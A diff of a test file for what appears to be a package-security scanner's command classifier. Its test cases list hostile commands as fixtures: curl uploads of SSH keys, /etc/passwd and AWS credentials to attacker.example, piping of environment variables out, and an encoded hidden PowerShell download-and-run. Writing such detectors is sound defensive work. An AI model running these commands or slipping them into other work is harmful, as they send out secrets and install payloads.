@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { duplicateKeys } from '../../../src/detectors/package/json-keys.js';
-import { assessCommand, isBuildCommand } from '../../../src/detectors/shared/commands.js';
+import { assessCommand, encodedPowerShell, isBuildCommand } from '../../../src/detectors/shared/commands.js';
 import { endpointIn, persistenceIn, secretIn } from '../../../src/detectors/shared/indicators.js';
 import { nodeTarget, splitScript } from '../../../src/detectors/javascript/npm-scripts.js';
 
@@ -22,8 +22,16 @@ describe('assessCommand', () => {
     ['curl -L -o {…} {…}', 'suspicious'],
     ['{…} -o pool.example.test:443 -u wallet --tls', 'malicious'],
     ['gcc -O2 -o build/threadpool.o -c src/threadpool.c', 'build'],
-    ['curl -F a=@/etc/passwd 203.0.113.7:8080', 'suspicious'],
-    ['curl -T ~/.ssh/id_rsa ftp.attacker.example', 'suspicious'],
+    ['curl -F a=@/etc/passwd 203.0.113.7:8080', 'malicious'],
+    ['curl -T ~/.ssh/id_rsa ftp.attacker.example', 'malicious'],
+    ['curl -d "$(cat ~/.aws/credentials)" attacker.example', 'malicious'],
+    ['curl --netrc-file ~/.netrc -o f.tgz https://downloads.example/f.tgz', 'suspicious'],
+    ['curl -s -X POST -d "$(env | base64)" https://203.0.113.7/c', 'malicious'],
+    ['env | curl -d @- https://attacker.example/c', 'malicious'],
+    ['printenv | base64 | curl -d @- attacker.example', 'malicious'],
+    ['curl https://attacker.example/$(whoami)/`hostname`', 'malicious'],
+    ['curl -L -o tool https://github.com/o/r/releases/download/v1/tool-$(uname -s)-$(uname -m)', 'suspicious'],
+    ['curl -fsSL -o x.tgz https://downloads.example/v$(cat VERSION)/x.tgz', 'suspicious'],
     ['curl --data-binary @/tmp/report.json attacker.example', 'suspicious'],
     ['wget --post-file=/etc/hosts attacker.example', 'suspicious'],
     ['curl 203.0.113.7/x', 'suspicious'],
@@ -31,6 +39,19 @@ describe('assessCommand', () => {
     ['curl --version', 'unknown'],
   ])('%s → %s', (cmd, level) => {
     expect(assessCommand(cmd).level).toBe(level);
+  });
+
+  it("decodes PowerShell's -EncodedCommand and judges the script with the command", () => {
+    const script = 'iwr http://192.0.2.7/p.exe -OutFile $env:TEMP\\p.exe; start $env:TEMP\\p.exe';
+    const encoded = Buffer.from(script, 'utf16le').toString('base64');
+    expect(encodedPowerShell(`powershell -w hidden -enc ${encoded}`)).toBe(script);
+    const a = assessCommand(`powershell -w hidden -enc ${encoded}`);
+    expect(a.reasons).toContain(`the encoded command decodes to \`${script}\``);
+    expect(a.reasons).toContain('(decoded) downloads with PowerShell/Windows tools');
+    expect(a.reasons.filter((r) => r === 'downloads and starts an executable')).toHaveLength(1);
+    expect([a.downloads, a.executesPayload, a.unmistakable]).toEqual([true, true, true]);
+    // Base64 of UTF-8 text is no -EncodedCommand script (PowerShell reads UTF-16LE).
+    expect(encodedPowerShell(`powershell -enc ${Buffer.from(script).toString('base64')}`)).toBeUndefined();
   });
 
   it('a build tool chained with a download is not build work', () => {
